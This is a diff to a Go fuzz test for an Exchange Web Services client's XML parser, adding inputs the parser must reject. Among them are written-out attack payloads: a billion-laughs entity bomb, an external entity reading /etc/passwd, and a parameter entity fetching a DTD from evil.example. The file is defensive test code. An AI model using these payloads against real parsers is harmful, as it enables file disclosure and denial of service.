@@ -1,10 +1,13 @@
 package ews
 
 import (
+	"bytes"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"unicode/utf8"
 )
 
 // maxFuzzInput mirrors the client's response cap at fuzzing scale: parsers only ever see
@@ -58,6 +61,58 @@ func seed(f *testing.F, responses ...string) {
 		strings.Repeat("<a>", 500) + strings.Repeat("</a>", 500)} {
 		f.Add([]byte(broken))
 	}
+	for _, h := range hostileXML() {
+		f.Add([]byte(h.body))
+	}
+	// A large answer just inside the fuzzing cap: parsing costs time in proportion to its size.
+	f.Add([]byte(soapBody("<x>" + strings.Repeat("Zoë & Co ", (maxFuzzInput-300)/10) + "</x>")))
+}
+
+// hostileBody is a response no Exchange sends, with the reason parseXML must refuse it for.
+type hostileBody struct {
+	name string
+	body string
+	want error
+}
+
+// soapBody wraps inner in a SOAP envelope's body, as an answer would carry it.
+func soapBody(inner string) string {
+	return `<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>` +
+		inner + `</s:Body></s:Envelope>`
+}
+
+// deepXML is n nested elements.
+func deepXML(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }
+
+// hostileXML are the bad inputs parseXML refuses, each in time and memory proportional to its
+// (capped) size: entity bombs and external entities, directives anywhere, nesting past
+// maxXMLDepth, invalid UTF-8 and foreign encodings.
+func hostileXML() []hostileBody {
+	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">`
+	for i := 1; i <= 9; i++ {
+		prev := "lol"
+		if i > 1 {
+			prev = fmt.Sprintf("lol%d", i-1)
+		}
+		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat("&"+prev+";", 10))
+	}
+	laughs += `]><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><x>&lol9;</x></s:Body></s:Envelope>`
+	return []hostileBody{
+		{"billion laughs", laughs, ErrDocumentType},
+		{"external entity", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + soapBody("<x>&xxe;</x>")[len(`<?xml version="1.0" encoding="utf-8"?>`):], ErrDocumentType},
+		{"parameter entity", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>` + soapBody(""), ErrDocumentType},
+		{"directive inside the body", soapBody(`<m:GetItemResponse xmlns:m="m"><!doctype x></m:GetItemResponse>`), ErrDocumentType},
+		{"entity declaration alone", soapBody(`<!ENTITY a "b">`), ErrDocumentType},
+		{"nesting past the limit", soapBody(deepXML(maxXMLDepth)), ErrTooDeep},
+		{"nesting far past the limit", soapBody(deepXML(100_000)), ErrTooDeep},
+		{"unclosed nesting", soapBody(strings.Repeat("<a>", 200_000)), ErrTooDeep},
+		{"Latin-1 text", soapBody("<m:R xmlns:m=\"m\">M\xfcller</m:R>"), ErrInvalidUTF8},
+		{"overlong encoding", soapBody("<m:R xmlns:m=\"m\">\xc0\xbc</m:R>"), ErrInvalidUTF8},
+		{"encoded surrogate", soapBody("<m:R xmlns:m=\"m\" a=\"\xed\xa0\x80\"/>"), ErrInvalidUTF8},
+		{"invalid UTF-8 in a comment", soapBody("<!-- \xff -->"), ErrInvalidUTF8},
+		{"UTF-16", "\xff\xfe<\x00s\x00:\x00", ErrInvalidUTF8},
+		{"declared Latin-1", `<?xml version="1.0" encoding="ISO-8859-1"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><x/></s:Body></s:Envelope>`, ErrForeignEncoding},
+	}
 }
 
 func envelopeFor(t *testing.T, data []byte) *envelope {
@@ -67,6 +122,9 @@ func envelopeFor(t *testing.T, data []byte) *envelope {
 	env, err := parseEnvelope(data)
 	if err != nil {
 		return nil
+	}
+	if !utf8.Valid(data) || bytes.Contains(data, []byte("<!DOCTYPE")) || bytes.Contains(data, []byte("<!ENTITY")) {
+		t.Fatal("parseEnvelope accepted invalid UTF-8 or a document type declaration")
 	}
 	if env.body == nil {
 		t.Fatal("parseEnvelope returned no body and no error")
